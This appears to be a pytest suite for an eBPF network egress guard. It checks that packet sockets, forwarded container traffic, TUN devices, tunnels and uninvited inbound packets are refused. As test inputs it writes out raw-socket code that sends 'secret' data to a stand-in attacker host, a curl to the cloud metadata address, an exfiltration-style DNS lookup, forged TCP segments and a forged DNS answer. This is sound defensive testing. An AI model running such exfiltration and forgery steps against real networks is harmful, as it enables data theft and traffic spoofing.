# SPDX-License-Identifier: MIT
"""What leaves by the uplink without a guarded socket: packet sockets, forwarded packets, tunnels, the stack's own."""
import contextlib
import ipaddress
import json
import subprocess
import sys

import pytest

from guard import ALLOWED, BINARY, DEGRADED, FAILED, PINS, Stream, assert_says, poll
from lab import dnswire, topology
from lab.lab import Lab, call

EVIL4, EVIL6 = topology.ATTACKER
GOOGLE4 = topology.ZONE["google.com"][0]
API4, API6 = topology.ZONE[ALLOWED][0], topology.ZONE[ALLOWED][3]
BOX4, BOX6 = "172.30.0.2", "fd30::2"

# usage: KIND HEX...: sends each over eth0 from a packet socket; KIND raw (frames), ip (frames that the kernel is told
# bear IPv4) or dgram (IP packets to the router)
PACKET = """
import socket, sys
kind = socket.SOCK_DGRAM if sys.argv[1] == "dgram" else socket.SOCK_RAW
s = socket.socket(socket.AF_PACKET, kind, 0)
for data in map(bytes.fromhex, sys.argv[2:]):
    protocol = 0x86DD if data[0] >> 4 == 6 else 0x0800
    try:
        s.sendto(data, ("eth0", 0x0800 if sys.argv[1] == "ip" else 0) if kind == socket.SOCK_RAW else
                 ("eth0", protocol, 0, 0, b"\\xff" * 6))
        print("sent")
    except OSError as e:
        print(e.strerror)
"""


def checksum(data):
    total = sum(int.from_bytes(data[i:i + 2].ljust(2, b"\0"), "big") for i in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(text):
    return ipaddress.ip_address(text).packed


def packet(source, destination, protocol, upper, hops=64):
    """An IP packet of the family of its addresses."""
    if ":" in destination:
        head = b"\x60\0\0\0" + len(upper).to_bytes(2, "big") + bytes([protocol, hops])
        return head + ip(source) + ip(destination) + upper
    head = bytes([0x45, 0]) + (20 + len(upper)).to_bytes(2, "big") + b"\0\0\0\0" + bytes([hops, protocol, 0, 0]) + \
        ip(source) + ip(destination)
    return head[:10] + checksum(head).to_bytes(2, "big") + head[12:] + upper


def udp(source, destination, sport, dport, data=b"secret"):
    upper = sport.to_bytes(2, "big") + dport.to_bytes(2, "big") + (8 + len(data)).to_bytes(2, "big") + b"\0\0" + data
    return packet(source, destination, 17, upper)


def tcp(source, destination, sport, dport, flags, data=b""):
    upper = sport.to_bytes(2, "big") + dport.to_bytes(2, "big") + bytes(8) + bytes([0x50, flags])
    upper += b"\xff\xff\0\0\0\0" + data
    return packet(source, destination, 6, upper)


ME4, ME6 = "10.0.1.10", "fd00:1::10"
SYN, ACK, PSH = 0x02, 0x10, 0x08


class Box:
    """A container as Docker would make it: a network namespace behind the server, masqueraded."""

    def __init__(self, lab):
        self.lab, self.netns = lab, f"ohl-{lab.id}-box"
        call(["ip", "netns", "add", self.netns])
        lab.server.ip(f"link add box0 type veth peer name eth0 netns {self.netns}", "addr add 172.30.0.1/24 dev box0",
                      "addr add fd30::1/64 dev box0 nodad", "link set box0 up")
        call(["ip", "-n", self.netns, "-batch", "-"],
             f"link set lo up\naddr add {BOX4}/24 dev eth0\naddr add {BOX6}/64 dev eth0 nodad\nlink set eth0 up\n"
             "route add default via 172.30.0.1\nroute add default via fd30::1\n")
        lab.server.run(["sh", "-ec",
                        "echo 1 > /proc/sys/net/ipv4/ip_forward; echo 1 > /proc/sys/net/ipv6/conf/all/forwarding"],
                       check=True)
        lab.server.run(["nft", "-f", "-"], check=True, input="""
            table inet box {
                chain out {
                    type nat hook postrouting priority srcnat;
                    iifname "box0" masquerade
                }
            }""")

    def command(self, argv, cgroup=None):
        join = f"echo $$ > '{cgroup}/cgroup.procs' && " if cgroup else ""
        holder = self.lab.state["machines"]["server"]
        return ["nsenter", f"--net=/run/netns/{self.netns}", f"--mount=/proc/{holder}/ns/mnt", "--", "sh", "-c",
                f'{join}exec "$@"', "sh", *map(str, argv)]

    def run(self, *argv, cgroup=None, **kw):
        return subprocess.run(self.command(argv, cgroup), env=self.lab.server.environment(), capture_output=True,
                              text=True, stdin=subprocess.DEVNULL, timeout=60, **kw)

    def curl(self, url, *args, **kw):
        return self.run("curl", "-sS", "-o", "/dev/null", "--max-time", "10", "--connect-timeout", "2", *args, url,
                        **kw)

    def at(self, name, address, *args, **kw):
        return self.curl(f"https://{name}", "--resolve", f"{name}:443:{address}", *args, **kw).returncode


@pytest.fixture(scope="module")
def machine():
    with Lab() as lab:
        lab.box = Box(lab)
        yield lab


@pytest.fixture
def lab(machine):
    yield machine
    # To a connection that a test cut off, the far side sends again for minutes: into the events of another test.
    machine.internet.run(["ss", "-HK", "state", "connected", "not dst 127.0.0.0/8 and not dst [::1]"], check=True)
    if machine.dns.changed:
        machine.dns.reset()


@pytest.fixture
def loaded(guard):
    guard.load("--uplink", "eth0")
    return guard


@pytest.fixture
def box(loaded):
    return loaded.lab.box


@contextlib.contextmanager
def refused(guard, reason, times=1, hook="uplink-egress", what=""):
    """Within it nothing leaves, and that reason is counted and told so many times."""
    guard.events()
    before = guard.reason(reason)
    with guard.nothing_leaves():
        yield
    assert guard.reason(reason) - before >= times, what
    told = [e for e in guard.events() if e["reason"] == reason and e["hook"] == hook]
    assert len(told) >= times, f"events: {what}"
    assert {e["verdict"] for e in told} == {"refused"}


def send(guard, kind, *packets, guarded=True):
    r = guard.lab.server.run([sys.executable, "-IS", "-c", PACKET, kind, *(p.hex() for p in packets)], guarded=guarded)
    assert r.returncode == 0, r.stderr
    return r.stdout.split("\n")[:-1]


def mac(guard):
    return bytes.fromhex(guard.shell("cat /sys/class/net/eth0/address").stdout.strip().replace(":", ""))


def frame(guard, data, ethertype=None, to=b"\xff" * 6):
    ethertype = ethertype or (0x86DD if data[0] >> 4 == 6 else 0x0800)
    return to + mac(guard) + ethertype.to_bytes(2, "big") + data


def hooks(guard, status=0):
    return {h["hook"]: h for h in guard.json("status", status=status)["hooks"]}


# -- packet sockets ---------------------------------------------------------------------------------------------

FORBIDDEN_PACKETS = {
    "udp": udp(ME4, EVIL4, 4000, 31337), "udp6": udp(ME6, EVIL6, 4000, 31337),
    "an allowed address": tcp(ME4, API4, 4000, 443, SYN), "an allowed address6": tcp(ME6, API6, 4000, 443, SYN),
    "the resolver": udp(ME4, topology.RESOLVER, 4000, 53, b"secret"),
    "what looks like an inbound reply": tcp(ME4, "10.0.0.10", 22, 4000, ACK | PSH, b"secret"),
    "echo": packet(ME4, EVIL4, 1, b"\x08\0\xf7\xff\0\0\0\0"), "protocol 99": packet(ME4, EVIL4, 99, b"secret"),
    "no IP": b"\x00" * 40,
}


# One load for each group: `refused` tells the rows of a table apart.
@pytest.mark.parametrize("kind", ["raw", "dgram"])
def test_packet_socket_sends_nothing(loaded, kind):
    for what, data in FORBIDDEN_PACKETS.items():
        with refused(loaded, "packet-socket", what=what):
            send(loaded, kind, frame(loaded, data) if kind == "raw" else data)


def test_packet_socket_forges_no_segment_of_an_admitted_connection(loaded):
    with loaded.stream(ALLOWED, "-4"):
        line = loaded.shell("ss -Htn4 state established dport = 443").stdout.split()
        local, remote = (a.rsplit(":", 1) for a in line[2:4])
        loaded.events()
        mark = loaded.lab.wire.mark()
        send(loaded, "raw", frame(loaded, tcp(local[0], remote[0], int(local[1]), 443, ACK | PSH, b"forged by me")))
        assert not [f for f in loaded.lab.wire.since(mark) if f.payload == b"forged by me"]
        assert "packet-socket" in {e["reason"] for e in loaded.events()}


def test_frame_of_another_kind_is_refused(loaded):
    for ethertype in (0x8100, 0x88A8, 0x88B5, 0x8864, 0x0806):
        with refused(loaded, "packet-socket", what=hex(ethertype)):
            send(loaded, "raw", frame(loaded, udp(ME4, EVIL4, 1, 2), ethertype))
    # what the wire says counts: by what the kernel was told it is the host's need
    discover = udp("0.0.0.0", "255.255.255.255", 68, 67, b"discover")
    with refused(loaded, "packet-socket"):
        send(loaded, "ip", frame(loaded, discover, 0x88B5))


def arp(guard, data=b"", sender=None):
    return b"\0\1\x08\0\6\4\0\1" + (sender or mac(guard)) + ip(ME4) + bytes(6) + ip("10.0.1.1") + data


def test_arp_passes_and_carries_nothing(loaded):
    mark = loaded.lab.wire.mark()
    send(loaded, "raw", frame(loaded, arp(loaded), 0x0806), frame(loaded, arp(loaded, bytes(18)), 0x0806))
    assert len(loaded.lab.wire.since(mark, proto="arp")) >= 2
    for bad in (arp(loaded, b"secret"), arp(loaded, bytes(17) + b"x"), arp(loaded, sender=b"\2" * 6), arp(loaded)[:-1],
                b"\0\2" + arp(loaded)[2:], arp(loaded)[:7] + b"\7" + arp(loaded)[8:]):
        mark = loaded.lab.wire.mark()
        send(loaded, "raw", frame(loaded, bad, 0x0806))
        assert frame(loaded, bad, 0x0806) not in [f.raw for f in loaded.lab.wire.since(mark)]
    assert loaded.reason("packet-socket") == 6


def test_dhcp_discover_by_packet_socket_passes(loaded):
    mark = loaded.lab.wire.mark()
    send(loaded, "raw", frame(loaded, udp("0.0.0.0", "255.255.255.255", 68, 67, b"discover")))
    assert len(loaded.lab.wire.since(mark, dport=67)) == 1
    with refused(loaded, "packet-socket"):
        send(loaded, "raw", frame(loaded, udp(ME4, EVIL4, 68, 67, b"discover")))


# -- forwarded --------------------------------------------------------------------------------------------------

def test_forwarded_connection_to_an_allowed_name_works_and_to_another_does_not(loaded, box):
    for family in ("-4", "-6"):
        r = box.curl(f"https://{ALLOWED}", family)
        assert r.returncode == 0, r.stderr
    for address in (GOOGLE4, EVIL6):
        with refused(loaded, "forwarded", what=address):
            assert box.at("google.com", f"[{address}]" if ":" in address else address)


FORWARDED = (
    (["ping", "-c1", "-W1", EVIL4], "forwarded"), (["ping", "-c1", "-W1", EVIL6], "forwarded"),
    (["dig", "+tries=1", "+time=1", "@8.8.8.8", "api.openai.com"], "dns-resolver-not-allowed"),
    (["curl", "-sS", "-m2", f"http://{API4}"], "forwarded"),
    (["curl", "-sS", "-m2", "http://169.254.169.254"], "metadata-service"),
    (["ping", "-c1", "-W1", "-s", "3000", EVIL4], "fragment"),
)


def test_forwarded_packet_is_refused(loaded, box):
    for argv, reason in FORWARDED:
        with refused(loaded, reason, what=argv):
            box.run(*argv)


def test_frame_with_a_vlan_tag_beside_it_is_judged(loaded, box):
    """The kernel takes a tag out of what came in, and keeps it beside the frame that a bridge sends on."""
    server = loaded.lab.server
    head = b"\xff" * 6 + b"\2\0\0\0\0\1" + b"\x81\0\0\5" + b"\x08\0"
    server.ip("link add br0 type bridge", "link set br0 up", "link set box0 master br0", "link set eth0 master br0")
    try:
        poll(lambda: "forwarding" in loaded.shell("bridge -d link show dev eth0").stdout, "the bridge forwards")
        for data in (tcp(BOX4, EVIL4, 4000, 443, SYN), udp(BOX4, EVIL4, 4000, 31337)):
            with refused(loaded, "forwarded"):
                sent = box.run(sys.executable, "-IS", "-c", PACKET, "raw", (head + data).hex())
                assert sent.stdout == "sent\n"
    finally:
        server.ip("link del br0")


def test_forwarded_dhcp_is_not_the_hosts_need(loaded, box):
    with refused(loaded, "forwarded"):
        box.run(sys.executable, "-IS", "-c", "import socket; s = socket.socket(2, 2); s.bind(('', 68));"
                "s.sendto(b'x', ('10.0.0.10', 67))")


def test_guarded_container_is_refused_at_once_and_its_allowed_name_works(loaded, box):
    child = loaded.sub_cgroup("container")
    with loaded.nothing_leaves():
        assert box.at("google.com", GOOGLE4, cgroup=child) == 7
    assert "uplink-egress" not in {e["hook"] for e in loaded.events()}
    assert box.curl(f"https://{ALLOWED}", cgroup=child).returncode == 0


def test_guarded_container_is_told_of_a_revoked_connection(loaded, box):
    """Its sockets are in another network namespace."""
    child = loaded.sub_cgroup("revoked")
    loaded.ok("allow", "198.51.100.40")
    wait = ("import errno, socket\ns = socket.create_connection(('198.51.100.40', 443))\nprint('connected', "
            "flush=True)\n"
            "try:\n    s.recv(1)\nexcept OSError as e:\n    print(errno.errorcode[e.errno])")
    p = subprocess.Popen(box.command([sys.executable, "-IS", "-c", wait], cgroup=child),
                         env=loaded.lab.server.environment(), stdout=subprocess.PIPE, text=True)
    try:
        assert p.stdout.readline() == "connected\n"
        loaded.ok("revoke", "198.51.100.40")
        assert p.stdout.readline() == "ECONNABORTED\n"
    finally:
        p.kill()
        p.wait()


def test_forwarded_connection_outlives_its_address_and_ends_with_its_target(loaded, box):
    loaded.conf(dns=("min-ttl = 1", "max-ttl = 1", "grace = 1"), allow=())
    loaded.ok("load")
    loaded.lab.dns.script("brief.lab.example", "answer", a=[GOOGLE4], ttl=1)
    loaded.ok("allow", "brief.lab.example")
    stream = subprocess.Popen(box.command(["curl", "-sSN", "--resolve", f"brief.lab.example:443:{GOOGLE4}",
                                           "https://brief.lab.example/stream"]), env=loaded.lab.server.environment(),
                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    s = Stream.__new__(Stream)
    s.curl = stream
    with s:
        poll(lambda: box.at("brief.lab.example", GOOGLE4), "the address to expire")
        assert s.goes_on()
        loaded.ok("revoke", "brief.lab.example")
        poll(lambda: not s.goes_on(), "the stream to end", 60)


# -- tunnels and TUN --------------------------------------------------------------------------------------------

TUN = """
import fcntl, os, struct, subprocess, sys
fd = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(fd, 0x400454CA, struct.pack("16sH22x", b"ohtun0", 0x1001))
subprocess.run(["ip", "link", "set", "ohtun0", "up"], check=True)
for data in map(bytes.fromhex, sys.argv[1:]):
    os.write(fd, data)
"""


def test_tun_device_is_no_way_out(loaded):
    with refused(loaded, "forwarded", 3):
        r = loaded.lab.server.run([sys.executable, "-IS", "-c", TUN, udp("172.31.0.2", EVIL4, 1, 31337).hex(),
                                   udp("fd31::2", EVIL6, 1, 31337).hex(),
                                   packet("172.31.0.2", EVIL4, 4, udp(ME4, EVIL4, 1, 2)).hex()], guarded=True)
        assert r.returncode == 0, r.stderr


@pytest.mark.parametrize("link", [f"type vxlan id 1 dstport 4789 remote {EVIL4} dev eth0",
                                  f"type ipip remote {EVIL4} local {ME4}", f"type gretap remote {EVIL4} local {ME4}"])
def test_tunnel_is_no_way_out(loaded, link):
    server = loaded.lab.server
    if server.run(["ip", "link", "add", "ohtunnel0", *link.split()]).returncode:
        pytest.skip("this kernel has no such tunnel")
    server.ip("addr add 172.31.9.1/24 dev ohtunnel0", "link set ohtunnel0 up")
    try:
        with refused(loaded, "protocol-not-allowed"):
            server.run(["ping", "-c1", "-W1", "172.31.9.2"])
    finally:
        server.ip("link del ohtunnel0")


# -- inbound ----------------------------------------------------------------------------------------------------

LISTEN = """
import socket, sys
for kind, port in ((socket.SOCK_STREAM, int(sys.argv[1])), (socket.SOCK_DGRAM, int(sys.argv[2]))):
    s = socket.socket(socket.AF_INET6, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", port))
    if kind == socket.SOCK_DGRAM:
        print("ready", flush=True)
        print("datagram", s.recv(99), flush=True)
    else:
        s.listen()
        t = s
"""
ECHO = """
import socket, sys
s = socket.socket(socket.AF_INET6)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("::", int(sys.argv[1])))
s.listen()
print("ready", flush=True)
while True:
    c = s.accept()[0]
    while data := c.recv(99):
        c.send(data)
"""


@contextlib.contextmanager
def listening(guard, code, *ports):
    with guard.lab.server.popen([sys.executable, "-IS", "-c", code, *map(str, ports)], guarded=True, text=True,
                                stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as p:
        try:
            assert p.stdout.readline() == "ready\n"
            yield p
        finally:
            p.kill()


@pytest.mark.parametrize("address", [ME4, ME6])
def test_uninvited_packets_do_not_reach_the_stack(loaded, address):
    family, attacker = ("-6", loaded.lab.attacker) if ":" in address else ("-4", loaded.lab.attacker)
    with listening(loaded, LISTEN, 8000, 8001):
        loaded.events()
        before, mark = loaded.reason("inbound-not-allowed"), loaded.lab.wire.mark()
        seen = loaded.shell("cat /proc/net/snmp /proc/net/snmp6").stdout
        attacker.run(["ping", family, "-c1", "-W1", address])
        attacker.run(["curl", "-sS", "-m1", f"http://[{address}]:8000" if ":" in address else f"http://{address}:8000"])
        attacker.run([sys.executable, "-IS", "-c",
                      f"import socket; s = socket.socket({10 if ':' in address else 2}, 2);"
                      f"s.sendto(b'x', ('{address}', 8001)); s.sendto(b'x', ('{address}', 9))"])
        assert not loaded.lab.wire.traffic(mark), "no answer of any kind"
        assert loaded.reason("inbound-not-allowed") >= before + 4
        after = loaded.shell("cat /proc/net/snmp /proc/net/snmp6").stdout
        for line in ("Icmp: ", "Udp: ", "Icmp6InMsgs", "Udp6InDatagrams", "Udp6NoPorts"):
            if line.startswith("Icmp6"):
                continue        # neighbour discovery counts there
            was, is_now = ([x for x in text.split("\n") if x.startswith(line)] for text in (seen, after))
            assert was == is_now
    told = [e for e in loaded.events() if e["hook"] == "uplink-ingress"]
    assert told and told[0]["reason"] == "inbound-not-allowed"
    source = topology.ATTACKER + ("100.64.4.2", "fd00:64:4::2", topology.NAT)
    assert told[0]["source"] in source and told[0]["destination"] == address
    assert len(told) <= 8, "a flood must not push out other events"


@pytest.mark.parametrize("address", [ME4, ME6])
def test_inbound_rule_lets_a_connection_in(loaded, address):
    with listening(loaded, ECHO, 22):
        code = ("import socket, sys; s = socket.create_connection((sys.argv[1], 22), 1, (sys.argv[2], 0));"
                "s.send(b'hello'); print(s.recv(9))")
        proxy, attacker = ("fd00::10", EVIL6) if ":" in address else ("10.0.0.10", EVIL4)
        assert loaded.lab.proxy.run([sys.executable, "-IS", "-c", code, address, proxy]).stdout == "b'hello'\n"
        assert "imed out" in loaded.lab.attacker.run([sys.executable, "-IS", "-c", code, address, attacker]).stderr


SESSION = """
import socket, sys
s = socket.create_connection((sys.argv[1], 22), 20)
for line in sys.stdin:
    s.send(line.encode())
    print(s.recv(99).decode(), end="", flush=True)
"""


def test_open_session_lives_over_load(guard):
    """An administrator's ssh, and a download that only the other side speaks in."""
    with listening(guard, ECHO, 22), guard.stream(ALLOWED) as stream, guard.lab.proxy.popen(
            [sys.executable, "-ISu", "-c", SESSION, ME4], text=True, stdin=subprocess.PIPE,
            stdout=subprocess.PIPE) as ssh:
        try:
            for args in ((), ("--uplink", "eth0"), ("--uplink", "eth0"), ("--uplink", "none"), ("--uplink", "auto")):
                ssh.stdin.write("still there\n")
                ssh.stdin.flush()
                assert ssh.stdout.readline() == "still there\n"
                assert stream.goes_on()
                guard.ok("load", "--anew", *args)
        finally:
            ssh.kill()


def test_path_mtu_is_found(loaded):
    """The router's "too big" is about an admitted flow."""
    router = loaded.lab.router
    router.ip("link set internet mtu 1300")
    try:
        for family in ("-4", "-6"):
            assert loaded.curl(f"https://{ALLOWED}", family, "--data", "x" * 20000) == 0
    finally:
        router.ip("link set internet mtu 1500")


def test_icmp_error_about_no_flow_is_dropped(loaded):
    before = loaded.reason("inbound-not-allowed")
    about = udp(ME4, EVIL4, 4000, 31337)
    upper = b"\x03\x04\0\0\0\0\x02\x00" + about
    upper = upper[:2] + checksum(upper).to_bytes(2, "big") + upper[4:]
    r = loaded.lab.attacker.run([sys.executable, "-IS", "-c",
                                 "import socket, sys; s = socket.socket(2, 3, 1); s.sendto(bytes.fromhex(sys.argv[1]), "
                                 "(sys.argv[2], 0))",
                                 upper.hex(), ME4])
    assert r.returncode == 0, r.stderr
    poll(lambda: loaded.reason("inbound-not-allowed") > before, "the error to be dropped")


# -- life -------------------------------------------------------------------------------------------------------

def test_status_tells_of_the_uplink(loaded):
    hook = hooks(loaded)["uplink-egress"]
    assert hook["attached"] and hook["where"] == "eth0" and hook["since"]
    notes = " ".join(loaded.json("status")["notes"])
    assert "PACKET_QDISC_BYPASS" in notes and "AF_VSOCK" in notes, "what remains is said"


def test_uplink_auto_is_the_interface_of_the_default_route(guard):
    guard.load("--uplink", "auto")
    assert hooks(guard)["uplink-egress"]["where"] == "eth0"


def test_plain_load_keeps_the_uplink_and_none_lets_it_go(loaded):
    loaded.ok("load")
    assert hooks(loaded)["uplink-egress"]["attached"]
    loaded.conf(guard=("uplink = eth0", "inbound = xdp"))
    loaded.ok("load")
    assert hooks(loaded)["uplink-egress"]["attached"] and at_devices(loaded)
    loaded.ok("load", "--uplink", "none")
    assert "uplink-egress" not in hooks(loaded)
    assert not at_devices(loaded)


def at_devices(guard):
    """Programs at interfaces of the server, as the kernel tells; tcx is newer than bpftool here."""
    net = json.loads(guard.shell("bpftool -j net").stdout)[0]
    return [p for kind in ("xdp", "tc") for p in net.get(kind, [])] + guard.shell(
        "tc filter show dev eth0 egress; tc filter show dev eth0 ingress", check=False).stdout.split()


def pin_id(guard, kind, pin):
    return json.loads(guard.shell(f"bpftool -j {kind} show pinned {PINS}/host/{pin}").stdout)["id"]


def test_unload_leaves_nothing(loaded):
    loaded.load("--uplink", "eth0", guard=("inbound = xdp",))
    links = [pin_id(loaded, "link", pin) for pin in ("uplink-egress-2", "uplink-ingress-2", "inbound-2")]
    assert at_devices(loaded)
    loaded.ok("unload", "--yes")
    loaded.shell(f"test ! -e {PINS}/host")
    poll(lambda: not at_devices(loaded), "interfaces without programs")
    for link in links:
        poll(lambda: loaded.shell(f"bpftool link show id {link}", check=False).returncode, "the end of the links")


def test_reload_has_no_open_moment(loaded):
    """A packet socket that never stops trying, over reloads."""
    code = ("import socket, sys, time\ns = socket.socket(17, 3, 0)\nprint('open', flush=True)\n"
            "while True:\n try: s.sendto(bytes.fromhex(sys.argv[1]), ('eth0', 0))\n except OSError: pass\n "
            "time.sleep(0.0005)")
    argv = [sys.executable, "-IS", "-c", code, frame(loaded, udp(ME4, EVIL4, 1, 31337)).hex()]
    with loaded.lab.server.popen(argv, guarded=True, stdout=subprocess.PIPE) as p:
        try:
            p.stdout.readline()
            with loaded.nothing_leaves():
                before = loaded.reason("packet-socket")
                for args in ([], ["--uplink", "auto"], [], ["--uplink", "eth0"]):
                    loaded.ok("load", "--anew", "--no-resolve", *args)
                poll(lambda: loaded.reason("packet-socket") > before, "tries")
        finally:
            p.kill()


def test_uplink_that_appears_later_is_guarded_by_refresh(loaded):
    server = loaded.lab.server
    r = loaded.run("load", "--uplink", "eth0", "--uplink", "second0")
    assert_says(r, DEGRADED, "second0")
    assert any("second0" in p for p in loaded.json("status", status=DEGRADED)["problems"])
    server.ip("link add second0 type veth peer name third0")
    try:
        assert any("second0" in p for p in loaded.json("status", status=DEGRADED)["problems"])
        loaded.ok("refresh")
        assert loaded.json("status")["healthy"]
        assert {(h["hook"], h["where"]) for h in loaded.json("status")["hooks"]} >= {
            (hook, where) for hook in ("uplink-egress", "uplink-ingress") for where in ("eth0", "second0")}
    finally:
        server.ip("link del second0")
    loaded.ok("refresh")
    assert hooks(loaded, DEGRADED)["uplink-egress"]["where"] == "eth0"


def test_uplink_that_appears_is_guarded_by_a_watcher(loaded):
    """A named one, also where it comes by that name later; gone and back again; one that a default route leads to."""
    server = loaded.lab.server

    def guarded():
        hooks_now = json.loads(loaded.run("status", "--json").stdout)["hooks"]
        return {h["where"] for h in hooks_now if h["hook"] == "uplink-ingress" and h["attached"]}

    loaded.run("load", "--uplink", "auto", "--uplink", "second0")
    with server.popen([BINARY, "refresh", "--uplinks", "--watch"]) as watcher:
        try:
            for _ in range(2):
                server.ip("link add other0 type veth peer name third0")
                server.ip("link set other0 name second0")
                poll(lambda: "second0" in guarded(), "the named uplink")
                server.ip("link del second0")
            server.ip("link add other0 type veth peer name third0", "link set other0 up", "link set third0 up",
                      "addr add 172.29.0.1/24 dev other0")
            assert "other0" not in guarded()
            server.ip("route add default dev other0 metric 900")
            poll(lambda: "other0" in guarded(), "the default route's interface")
            watcher.terminate()
            assert watcher.wait(10) == 0
        finally:
            watcher.kill()
            server.run(["ip", "link", "del", "other0"])
    loaded.ok("load", "--uplink", "eth0")


def test_unguarded_default_route_is_told(loaded):
    server = loaded.lab.server
    server.ip("link add second0 type veth peer name third0", "link set second0 up", "link set third0 up",
              "addr add 172.29.0.1/24 dev second0", "route add default dev second0 metric 900")
    try:
        assert any("second0" in p for p in loaded.json("status", status=DEGRADED)["problems"])
    finally:
        server.ip("link del second0")
    assert loaded.json("status")["healthy"]


def test_link_that_is_no_ethernet_is_refused(guard):
    guard.lab.server.ip("tuntap add ohtunnel0 mode tun")
    try:
        assert_says(guard.run("load", "--uplink", "ohtunnel0"), FAILED, "ohtunnel0", "Ethernet")
        assert not guard.attached()
    finally:
        guard.lab.server.ip("link del ohtunnel0")


def test_observe_refuses_nothing_and_tells_once(guard):
    guard.load("--uplink", "eth0", "--observe")
    mark = guard.lab.wire.mark()
    send(guard, "raw", frame(guard, udp(ME4, EVIL4, 1, 31337)))
    assert guard.probe("udp", EVIL4, 31337) == "ok"
    assert len(guard.lab.wire.since(mark, dst=EVIL4, proto="udp")) == 2
    told = [e for e in guard.events() if e["destination"] == EVIL4 and e["protocol"] == "udp"]
    assert sorted((e["hook"], e["verdict"]) for e in told) == [
        ("sendmsg4", "observed"), ("uplink-egress", "observed")]     # egress repeats what sendmsg4 told


# -- what is in it ----------------------------------------------------------------------------------------------

@pytest.fixture
def inspecting(guard):
    guard.load("--uplink", "eth0", dns=("inspect = on",))
    return guard


def test_forwarded_hello_for_an_allowed_name_passes(inspecting):
    assert inspecting.lab.box.curl(f"https://{ALLOWED}").returncode == 0


@pytest.fixture
def loss(inspecting):
    """One of four segments to the site is lost behind the uplink, and one of four from it; but no SYN, for speed."""
    nft = ["nsenter", f"--net={inspecting.lab.router.netns}", "nft"]
    rules = "".join(f"        ip {way} {API4} tcp flags & syn == 0 numgen random mod 100 < 25 drop\n"
                    for way in ("saddr", "daddr"))
    r = subprocess.run([*nft, "-f", "-"], input="table ip loss {\n    chain out {\n        type filter hook forward "
                       f"priority filter;\n{rules}    }}\n}}\n", text=True, capture_output=True)
    if r.returncode:
        pytest.skip(f"this kernel's nft cannot lose packets: {r.stderr.splitlines()[:1]}")
    yield
    subprocess.run([*nft, "delete", "table", "ip", "loss"], check=True)


LARGE = """
import socket, ssl, sys
context = ssl.create_default_context()
context.set_alpn_protocols(["http/1.1"] + ["x" * 200] * 7)
for _ in range(3):
    s = context.wrap_socket(socket.create_connection((sys.argv[1], 443), timeout=60), server_hostname=sys.argv[2])
    s.sendall(b"x" * 20000)      # what follows is not looked at
    print("connected", flush=True)
    s.close()
"""


def test_forwarded_hello_that_is_lost_comes_again(inspecting, loss):
    """Its two segments went by in one frame, and come again one by one."""
    r = inspecting.lab.box.run(sys.executable, "-IS", "-c", LARGE, API4, ALLOWED)
    assert r.stdout == "connected\n" * 3, r.stderr


@pytest.fixture
def narrow(inspecting):
    """The box's IPv4 packets bear 560 bytes of payload, and none more than one segment. By the route: the kernel takes
    IPv6 from a device of less than 1280."""
    def set(mtu, segments):
        call(["ip", "-n", inspecting.lab.box.netns, "-batch", "-"],
             f"route replace default via 172.30.0.1 {mtu}\nlink set eth0 gso_max_segs {segments}\n")
    set("mtu lock 600", 1)
    yield
    set("", 65535)


def test_forwarded_hello_in_several_frames_passes(inspecting, narrow):
    mark = inspecting.lab.wire.mark()
    r = inspecting.lab.box.run(sys.executable, "-IS", "-c", LARGE, API4, ALLOWED)
    assert r.stdout == "connected\n" * 3, r.stderr
    assert max(len(bytes(f.payload)) for f in inspecting.lab.wire.traffic(mark, dst=API4)) < 600
    assert inspecting.lab.box.at("google.com", API4, "-m", "3")


@pytest.mark.parametrize("url, reason",
                         [("https://google.com:443", "tls-name-not-allowed"), ("http://x.example:443", "tls-not-tls")])
def test_forwarded_connection_must_open_with_an_allowed_hello(inspecting, url, reason):
    name = url.split("/")[2].split(":")[0]
    before = inspecting.reason(reason)
    assert inspecting.lab.box.curl(url, "--resolve", f"{name}:443:{API4}", "-m", "3").returncode
    assert inspecting.reason(reason) > before


@pytest.mark.parametrize("transport", ["+notcp", "+tcp"])
def test_forwarded_query_for_another_name_is_refused(inspecting, transport):
    box = inspecting.lab.box
    mark = inspecting.lab.wire.mark()
    assert box.run("dig", "+short", transport, ALLOWED).stdout
    before = inspecting.reason("dns-name-not-allowed")
    assert "NOERROR" not in box.run("dig", "+tries=1", "+time=1", transport, "secret.attacker.example").stdout
    assert inspecting.reason("dns-name-not-allowed") > before
    assert not [f for f in inspecting.lab.wire.since(mark) if b"secret" in f.payload]


def test_answer_to_a_container_teaches(inspecting):
    """By its own query, through NAT: an address that ohguard itself never got."""
    guard, box = inspecting, inspecting.lab.box
    assert "uplink-ingress" in hooks(guard) and "ingress" not in hooks(guard)
    fresh = "198.51.100.99"
    assert box.at(ALLOWED, fresh), "not known yet"
    guard.lab.dns.script(ALLOWED, "answer", a=[fresh], ttl=60)
    assert box.run("dig", "+short", ALLOWED).stdout == f"{fresh}\n"
    assert box.at(ALLOWED, fresh) == 0
    assert fresh in guard.addresses(f"{ALLOWED}:443")


def test_answer_to_the_host_teaches(inspecting):
    fresh = "198.51.100.98"
    inspecting.lab.dns.script(ALLOWED, "answer", a=[fresh], ttl=60)
    assert inspecting.curl(f"https://{ALLOWED}", "-4") == 0
    assert fresh in inspecting.addresses(f"{ALLOWED}:443")


def test_container_cannot_forge_an_answer(inspecting):
    """From the resolver's address on the container's own link: the uplink never sees it."""
    box = inspecting.lab.box
    query = dnswire.query(ALLOWED)
    forged = dnswire.response(dnswire.parse_query(query), [dnswire.record(None, dnswire.A, 60, EVIL4)])
    code = """
import socket, sys
s = socket.socket(2, 2)
s.bind(("0.0.0.0", 4242))
s.sendto(bytes.fromhex(sys.argv[1]), (sys.argv[2], 53))
raw = socket.socket(17, 3, 0)
raw.bind(("eth0", 0))
raw.send(bytes.fromhex(sys.argv[3]))
print(len(s.recv(999)) > 0)
"""
    reply = b"\xff" * 6 + b"\2" * 6 + b"\x08\0" + udp(topology.RESOLVER, ME4, 53, 4242, forged)
    r = box.run(sys.executable, "-IS", "-c", code, query.hex(), topology.RESOLVER, reply.hex())
    assert r.stdout == "True\n", r.stderr
    assert EVIL4 not in inspecting.addresses(f"{ALLOWED}:443")
